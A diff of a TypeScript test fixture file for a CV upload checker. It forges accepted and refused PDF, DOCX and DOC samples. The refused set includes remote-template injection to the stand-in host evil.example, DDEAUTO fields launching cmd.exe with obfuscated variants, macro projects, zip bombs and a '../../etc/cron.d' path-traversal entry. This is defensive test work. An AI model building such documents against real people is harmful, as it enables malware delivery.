@@ -1,85 +1,30 @@
-/** Files for tests: valid ones of each kind, and forged ones. Archives are built byte by byte, so that a test can put false values into them. */
-import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
-
-interface Entry {
-  name: string;
-  content: Buffer;
-  /** A false unpacked size. */
-  claims?: number;
-  encrypted?: boolean;
-  /** A false checksum. */
-  checksum?: number;
-}
-
-export function zip(entries: Entry[]): Buffer {
-  const parts: Buffer[] = [];
-  const directory: Buffer[] = [];
-  let offset = 0;
-  for (const { name, content, claims, encrypted, checksum } of entries) {
-    const packed = deflateRawSync(content);
-    const fields = Buffer.alloc(26);
-    fields.writeUInt16LE(20, 0);
-    fields.writeUInt16LE(encrypted ? 1 : 0, 2);
-    fields.writeUInt16LE(8, 4);
-    fields.writeUInt32LE(checksum ?? crc32(content), 10);
-    fields.writeUInt32LE(packed.length, 14);
-    fields.writeUInt32LE(claims ?? content.length, 18);
-    fields.writeUInt16LE(Buffer.byteLength(name), 22);
-    const local = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), fields, Buffer.from(name), packed]);
-    const tail = Buffer.alloc(14);
-    tail.writeUInt32LE(offset, 10);
-    directory.push(
-      Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), fields, tail, Buffer.from(name)]),
-    );
-    parts.push(local);
-    offset += local.length;
-  }
-  const central = Buffer.concat(directory);
-  const end = Buffer.alloc(22);
-  end.write('PK\u0005\u0006', 'latin1');
-  end.writeUInt16LE(entries.length, 8);
-  end.writeUInt16LE(entries.length, 10);
-  end.writeUInt32LE(central.length, 12);
-  end.writeUInt32LE(offset, 16);
-  return Buffer.concat([...parts, central, end]);
-}
-
-const xml = (text: string) => Buffer.from(`<?xml version="1.0"?><w:document>${text}</w:document>`);
-const types = { name: '[Content_Types].xml', content: xml('types') };
-const body = { name: 'word/document.xml', content: xml('Anna Rossi, ten years of TypeScript') };
-
-export const docx = zip([types, { name: '_rels/.rels', content: xml('rels') }, body]);
-const pdfObjects = '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj';
-const makePdf = (objects: string) =>
-  Buffer.from(
-    `%PDF-1.7\n${objects}\nxref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R>>\nstartxref\n110\n%%EOF\n`,
-    'latin1',
-  );
-export const pdf = makePdf(pdfObjects);
-const script = '3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj';
-/** Compressed bytes, in which any three bytes occur by chance. */
-const packed =
-  '4 0 obj<</Filter/FlateDecode/Length 17>>stream\nx\u009c\u00e3/JS \u0091>>stream\n\u00f8\nendstream endobj';
-/** Writes objects inside a compressed stream, as most programs do today. */
-const objectStream = (objects: string, dictionary = '/Type/ObjStm') => {
-  const packedObjects = deflateSync(Buffer.from(`9 0 ${objects}`, 'latin1')).toString('latin1');
-  return `8 0 obj<<${dictionary}/N 1/First 4/Filter/FlateDecode/Length ${packedObjects.length}>>stream\n${packedObjects}\nendstream endobj`;
-};
-const relations = (...entries: string[]) => ({
-  name: 'word/_rels/document.xml.rels',
-  content: Buffer.from(`<?xml version="1.0"?><Relationships xmlns="r">${entries.join('')}</Relationships>`),
-});
-const relation = (type: string, target: string, more = ' TargetMode="External"') =>
-  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${more}/>`;
-const remote = 'https://evil.example/template.dotm';
-const ole = (names: string) =>
-  Buffer.concat([
-    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
-    Buffer.alloc(504),
-    Buffer.from(names, 'utf16le'),
-    Buffer.alloc(512),
-  ]);
-export const doc = ole('Root Entry WordDocument');
+/** Files for tests: real ones of each kind, and ones that only look real. */
+import type { CvFault } from '../../site/page/form-services.ts';
+import {
+  attachment,
+  body,
+  doc,
+  docx,
+  docxAt,
+  docxWith,
+  europass,
+  field,
+  objectStream,
+  ole,
+  packageRelations,
+  packed,
+  pdf,
+  pdfObjects,
+  makePdf,
+  relation,
+  relations,
+  remote,
+  root,
+  types,
+  xml,
+  zip,
+} from './cv-files.ts';
+import { refusedPdfs } from './cv-refused-pdfs.ts';
 
 export const acceptedFiles: [string, string, Buffer][] = [
   ['a PDF', 'cv.pdf', pdf],
@@ -100,6 +45,7 @@ export const acceptedFiles: [string, string, Buffer][] = [
     'cv.docx',
     zip([
       types,
+      root,
       body,
       { name: 'word/media/image1.png', content: Buffer.from('89504e470d0a1a0a', 'hex') },
       relations(
@@ -109,6 +55,51 @@ export const acceptedFiles: [string, string, Buffer][] = [
       ),
     ]),
   ],
+  ['a PDF behind a line break', 'cv.pdf', Buffer.concat([Buffer.from('\r\n'), pdf])],
+  [
+    'a PDF with an XML attachment, as Europass writes it',
+    'cv.pdf',
+    makePdf(`${pdfObjects} ${attachment('cv.xml', europass)}`),
+  ],
+  [
+    'a PDF with links, and a page to open at',
+    'cv.pdf',
+    makePdf(
+      `1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoTo/D[2 0 R/Fit]>>>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0/A<</S/URI/URI(file:///C:/x)>>>>endobj`,
+    ),
+  ],
+  [
+    'a PDF with a length in an object of its own',
+    'cv.pdf',
+    makePdf(`${pdfObjects} 3 0 obj<</Length 4 0 R>>stream\nBT (some streams) ET\nendstream endobj 4 0 obj 20 endobj`),
+  ],
+  ['a DOCX of Word for the web', 'cv.docx', docxAt('word/document2.xml')],
+  [
+    'a DOCX whose main part has an absolute name',
+    'cv.docx',
+    zip([types, packageRelations('/word/document.xml'), body]),
+  ],
+  [
+    'a DOCX with links of every kind',
+    'cv.docx',
+    zip([
+      types,
+      root,
+      body,
+      relations(
+        ...['file:///C:\\Users\\anna\\letter.docx', 'skype:anna?call', 'letter.pdf', '#top', 'sms:+39055'].map(
+          (target) => relation('hyperlink', target),
+        ),
+      ),
+    ]),
+  ],
+  [
+    'a DOCX with a table of contents, the date, and a link to a page about DDE in a comment',
+    'cv.docx',
+    docxWith(
+      '<!-- DDEAUTO --><w:fldChar w:fldCharType="begin"/><w:instrText> TOC \\o "1-3" </w:instrText><w:fldChar w:fldCharType="end"/><w:fldSimple w:instr=" DATE "/><w:t>LINK, DDEAUTO</w:t>',
+    ),
+  ],
   [
     'a DOC that speaks of macros',
     'cv.doc',
@@ -116,7 +107,9 @@ export const acceptedFiles: [string, string, Buffer][] = [
   ],
 ];
 
-export const refusedFiles: [string, string, Buffer][] = [
+/** With the key of the error message; `cvKind` when it is left out. */
+export const refusedFiles: [what: string, name: string, bytes: Buffer, fault?: CvFault][] = [
+  ...refusedPdfs,
   ['a program', 'cv.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)])],
   ['a web page', 'cv.pdf', Buffer.from(`<!doctype html><script>alert(1)</script>${' '.repeat(200)}%PDF-1.7 %%EOF`)],
   ['a PDF named as something else', 'cv.html', pdf],
@@ -126,159 +119,166 @@ export const refusedFiles: [string, string, Buffer][] = [
   ['a PDF that is also an archive', 'cv.pdf', Buffer.concat([pdf, docx, Buffer.from('%%EOF')])],
   ['an archive behind a PDF header', 'cv.docx', Buffer.concat([pdf, docx])],
   ['an archive with something behind it', 'cv.docx', Buffer.concat([docx, Buffer.from('<script>alert(1)</script>')])],
-  ['a PDF with a script', 'cv.pdf', makePdf(`${pdfObjects} 3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj`)],
-  ['a PDF with an escaped script', 'cv.pdf', makePdf(`${pdfObjects} 3 0 obj<</S/J#61vaScript>>endobj`)],
-  ['a PDF that starts a program', 'cv.pdf', makePdf(`${pdfObjects} 3 0 obj<</S/Launch/F(cmd.exe)>>endobj`)],
-  ['a PDF with a script between streams', 'cv.pdf', makePdf(`${pdfObjects} ${packed} ${script} ${packed}`)],
-  ['a PDF with a script before a stream', 'cv.pdf', makePdf(`${pdfObjects} ${script} ${packed}`)],
-  [
-    'a PDF with a script behind a stream without an end',
-    'cv.pdf',
-    makePdf(`${pdfObjects} 4 0 obj<<>>stream\nx ${script}`),
-  ],
-  [
-    'a PDF with a script behind a stream that ends in another one',
-    'cv.pdf',
-    makePdf(`${pdfObjects} 4 0 obj<<>>stream\nx ${script} ${packed}`),
-  ],
-  [
-    'a PDF with a script in the dictionary of a stream',
-    'cv.pdf',
-    makePdf(`${pdfObjects} ${packed.replace('<<', '<</AA<</O<</S/JavaScript>>>>')}`),
-  ],
-  [
-    'a PDF with a script in an object stream',
-    'cv.pdf',
-    makePdf(`${pdfObjects} ${objectStream('<</S/JavaScript/JS(app.alert(1))>>')}`),
-  ],
-  [
-    'a PDF with an escaped script in an object stream',
-    'cv.pdf',
-    makePdf(`${pdfObjects} ${objectStream('<</S%x\n/J#61vaScript/J#53(app.alert(1))>>', '/Type/Obj#53tm')}`),
-  ],
-  [
-    'a PDF with a script in an object stream that does not say so',
-    'cv.pdf',
-    makePdf(`${pdfObjects} ${objectStream('<</S/Launch/F(cmd.exe)>>', '/Type 7 0 R')}`),
-  ],
-  [
-    'a PDF with a file in an object stream',
-    'cv.pdf',
-    makePdf(`${pdfObjects} ${objectStream('<</Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>>>')}`),
-  ],
-  [
-    'a PDF with an object stream that is packed twice',
-    'cv.pdf',
-    makePdf(
-      `${pdfObjects} ${objectStream('<</S/JavaScript>>').replace('/Filter/FlateDecode', '/Filter[/ASCIIHexDecode/FlateDecode]')}`,
-    ),
-  ],
-  [
-    'a PDF with an object stream that is a bomb',
-    'cv.pdf',
-    makePdf(`${pdfObjects} ${objectStream(' '.repeat(100 * 1024 * 1024))}`),
-  ],
-  [
-    'an encrypted PDF',
-    'cv.pdf',
-    Buffer.from(pdf.toString('latin1').replace('<</Root', '<</Encrypt 6 0 R/Root'), 'latin1'),
-  ],
   [
     'a DOCX with a template from elsewhere',
     'cv.docx',
-    zip([types, body, relations(relation('attachedTemplate', remote))]),
+    zip([types, root, body, relations(relation('attachedTemplate', remote))]),
+    'cvExternal',
   ],
   [
     'a DOCX with a template from a share',
     'cv.docx',
-    zip([types, body, relations(relation('attachedTemplate', 'file://evil.example/share/x.dotm'))]),
+    zip([types, root, body, relations(relation('attachedTemplate', 'file://evil.example/share/x.dotm'))]),
+    'cvExternal',
   ],
   [
     'a DOCX with a template in other words',
     'cv.docx',
-    zip([types, body, relations(relation('attachedTemplate', remote, ' TargetMode="Extern&#97;l"'))]),
+    zip([types, root, body, relations(relation('attachedTemplate', remote, ' TargetMode="Extern&#97;l"'))]),
+    'cvExternal',
   ],
   [
     'a DOCX with a picture from elsewhere',
     'cv.docx',
-    zip([types, body, relations(relation('image', 'https://evil.example/seen.png'))]),
+    zip([types, root, body, relations(relation('image', 'https://evil.example/seen.png'))]),
+    'cvExternal',
   ],
   [
     'a DOCX with a link that runs',
     'cv.docx',
-    zip([types, body, relations(relation('hyperlink', 'javascript:alert(1)'))]),
+    zip([types, root, body, relations(relation('hyperlink', 'javascript:alert(1)'))]),
+    'cvExternal',
   ],
   [
     'a DOCX with an embedded object',
     'cv.docx',
-    zip([types, body, { name: 'word/embeddings/oleObject1.bin', content: Buffer.from('x') }]),
+    zip([types, root, body, { name: 'word/embeddings/oleObject1.bin', content: Buffer.from('x') }]),
+    'cvActive',
   ],
   [
     'a DOCX with an object under another name',
     'cv.docx',
-    zip([types, body, { name: 'word/media/image1.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
+    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
+    'cvFiles',
   ],
   [
     'a DOCX with a program under another name',
     'cv.docx',
-    zip([types, body, { name: 'word/media/image1.png', content: Buffer.from('MZ\u0090 This program') }]),
+    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.from('MZ\u0090 This program') }]),
+    'cvFiles',
   ],
   [
     'a DOCX with a field that starts a program',
     'cv.docx',
     zip([
       types,
+      root,
       {
         name: 'word/document.xml',
         content: xml('<w:instrText>DDE</w:instrText><w:t>x</w:t><w:instrText>AUTO c:\\cmd.exe</w:instrText>'),
       },
     ]),
+    'cvActive',
   ],
   [
     'a DOCX with an entity',
     'cv.docx',
     zip([
       types,
+      root,
       { name: 'word/document.xml', content: Buffer.from('<!DOCTYPE x [<!ENTITY a "b">]><w:document>&a;</w:document>') },
     ]),
   ],
   [
     'a bomb of 100 MB whose directory says 5 KB',
     'cv.docx',
-    zip([types, body, { name: 'word/media/image1.png', content: Buffer.alloc(100 * 1024 * 1024), claims: 5000 }]),
+    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.alloc(100 * 1024 * 1024), claims: 5000 }]),
   ],
-  ['a part that is not what its checksum says', 'cv.docx', zip([types, { ...body, checksum: 1 }])],
-  ['a DOC with an embedded program', 'cv.doc', ole('Root Entry WordDocument \u0001Ole10Native')],
+  ['a part that is not what its checksum says', 'cv.docx', zip([types, root, { ...body, checksum: 1 }])],
+  ['a DOC with an embedded program', 'cv.doc', ole('Root Entry WordDocument \u0001Ole10Native'), 'cvActive'],
   ['a plain archive', 'cv.docx', zip([{ name: 'cv.txt', content: Buffer.alloc(300, 'x') }])],
-  ['a DOCX with macros', 'cv.docx', zip([types, body, { name: 'word/vbaProject.bin', content: Buffer.from('macro') }])],
-  ['an encrypted DOCX', 'cv.docx', zip([types, { ...body, encrypted: true }])],
+  [
+    'a DOCX with macros',
+    'cv.docx',
+    zip([types, root, body, { name: 'word/vbaProject.bin', content: Buffer.from('macro') }]),
+    'cvActive',
+  ],
+  ['an encrypted DOCX', 'cv.docx', zip([types, root, { ...body, encrypted: true }]), 'cvLocked'],
   [
     'a bomb of zeros',
     'cv.docx',
-    zip([types, body, { name: 'word/media/image1.png', content: Buffer.alloc(40 * 1024 * 1024) }]),
+    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.alloc(40 * 1024 * 1024) }]),
   ],
   [
     'a bomb by its own claim',
     'cv.docx',
-    zip([types, body, { name: 'word/media/image1.png', content: Buffer.from('x'), claims: 4_000_000_000 }]),
+    zip([types, root, body, { name: 'word/media/image1.png', content: Buffer.from('x'), claims: 4_000_000_000 }]),
   ],
   [
     'an archive with a way out',
     'cv.docx',
-    zip([types, body, { name: '../../etc/cron.d/x', content: Buffer.from('x') }]),
+    zip([types, root, body, { name: '../../etc/cron.d/x', content: Buffer.from('x') }]),
   ],
-  ['an archive with one name twice', 'cv.docx', zip([types, body, body])],
+  ['an archive with one name twice', 'cv.docx', zip([types, root, body, body])],
   [
     'too many entries',
     'cv.docx',
     zip([
       types,
+      root,
       body,
       ...Array.from({ length: 600 }, (_, index) => ({ name: `word/${index}.xml`, content: Buffer.from('x') })),
     ]),
   ],
-  ['a DOC with macros', 'cv.doc', ole('Root Entry WordDocument Macros _VBA_PROJECT')],
-  ['a DOC with a folder of macros', 'cv.doc', ole('Root Entry WordDocument Macros\u0000\u0000\u0000\u0000')],
+  [
+    'a DOCX with a field in CDATA',
+    'cv.docx',
+    field('<w:instrText><![CDATA[DDEAUTO c:\\cmd.exe]]></w:instrText>'),
+    'cvActive',
+  ],
+  [
+    'a DOCX with a field with a comment in it',
+    'cv.docx',
+    field('<w:instrText>DDE<!-- x -->AUTO c:\\cmd.exe</w:instrText>'),
+    'cvActive',
+  ],
+  [
+    'a DOCX with a field written with entities',
+    'cv.docx',
+    field('<w:instrText>&#68;D&#x45;AUTO c:\\cmd.exe</w:instrText>'),
+    'cvActive',
+  ],
+  [
+    'a DOCX with a field with a processing instruction in it',
+    'cv.docx',
+    field('<w:instrText>DDE<?x?>AUTO c:\\cmd.exe</w:instrText>'),
+    'cvActive',
+  ],
+  [
+    'a DOCX with a field under another prefix',
+    'cv.docx',
+    docxWith(
+      '<x:instrText xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">DDEAUTO c:\\cmd.exe</x:instrText>',
+    ),
+    'cvActive',
+  ],
+  ['a DOCX with a simple field', 'cv.docx', docxWith('<w:fldSimple w:instr=" LINK Word.Document.8 x "/>'), 'cvActive'],
+  [
+    'a DOCX with a field in a main part that is not called XML',
+    'cv.docx',
+    docxAt('word/document.dat', xml('<w:instrText>DDEAUTO x</w:instrText>')),
+    'cvActive',
+  ],
+  ['a DOCX whose main part is not well-formed', 'cv.docx', docxWith('<w:p>')],
+  ['a DOCX in another encoding', 'cv.docx', docxAt('word/document.xml', Buffer.from('\ufeff<w/>', 'utf16le'))],
+  ['a DOCX without a main part', 'cv.docx', zip([types, body])],
+  ['a DOC with macros', 'cv.doc', ole('Root Entry WordDocument Macros _VBA_PROJECT'), 'cvActive'],
+  [
+    'a DOC with a folder of macros',
+    'cv.doc',
+    ole('Root Entry WordDocument Macros\u0000\u0000\u0000\u0000'),
+    'cvActive',
+  ],
   ['another OLE file', 'cv.doc', ole('Root Entry Workbook')],
   ['nothing', 'cv.pdf', Buffer.from('%PDF-1.7 %%EOF')],
 ];
